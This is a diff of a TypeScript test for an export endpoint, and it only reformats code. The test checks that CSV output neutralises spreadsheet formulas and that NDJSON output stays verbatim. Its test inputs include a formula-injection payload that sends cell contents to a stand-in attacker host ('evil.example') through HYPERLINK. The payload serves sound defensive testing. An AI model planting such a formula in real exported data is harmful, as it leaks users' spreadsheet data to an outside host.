@@ -68,7 +68,7 @@ describeEachMode('GET /v1/export', (mode) => {
     expect(csv.text).toContain(`${new Date(day + 2 * HOUR_MS).toISOString()},default,click,"b","/a,""b""\nc",2,"x1"\r\n`);
   });
 
-  it('neutralises in CSV a cell a spreadsheet would run as a formula (prefix \'), and keeps NDJSON verbatim', async () => {
+  it("neutralises in CSV a cell a spreadsheet would run as a formula (prefix '), and keeps NDJSON verbatim", async () => {
     const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx'];
     const time = new Date(day + 3 * HOUR_MS).toISOString();
     const res = await t.http.post('/v1/events').send({
@@ -88,11 +88,15 @@ describeEachMode('GET /v1/export', (mode) => {
     const again = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
     expect(again.text).toContain(`${time},default,view,"a=b","/x-y@z",1,\r\n`);
 
-    const nd = await t.http.get('/v1/export').query(range).buffer(true).parse((r, done) => {
-      let text = '';
-      r.on('data', (c: Buffer) => (text += c.toString()));
-      r.on('end', () => done(null, text));
-    });
+    const nd = await t.http
+      .get('/v1/export')
+      .query(range)
+      .buffer(true)
+      .parse((r, done) => {
+        let text = '';
+        r.on('data', (c: Buffer) => (text += c.toString()));
+        r.on('end', () => done(null, text));
+      });
     const users = (nd.body as string)
       .trimEnd()
       .split('\n')
